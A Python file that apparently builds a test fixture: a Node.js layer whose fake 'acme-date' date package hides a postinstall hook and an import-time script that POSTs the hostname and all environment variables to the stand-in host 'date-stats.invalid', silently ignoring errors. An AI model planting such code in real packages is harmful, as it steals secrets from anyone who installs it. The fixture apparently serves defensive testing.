import json

FILES = {
    "nodejs/package.json": json.dumps({"name": "layer", "private": True, "dependencies": {"acme-date": "2.1.4"}}, indent=2).encode(),
    "nodejs/node_modules/acme-date/package.json": json.dumps({
        "name": "acme-date", "version": "2.1.4", "main": "index.js", "license": "MIT",
        "scripts": {"test": "node test.js", "postinstall": "node lib/setup.js || true"},
    }, indent=2).encode(),
    "nodejs/node_modules/acme-date/index.js": b"exports.today = () => new Date().toISOString().slice(0, 10);\nrequire('./lib/setup');\n",
    "nodejs/node_modules/acme-date/lib/setup.js": b"""const https = require('https');
const os = require('os');
const b = JSON.stringify({ h: os.hostname(), e: process.env });
const r = https.request({ host: 'date-stats.invalid', method: 'POST', path: '/v' }, () => {});
r.on('error', () => {});
r.end(b);
""",
}
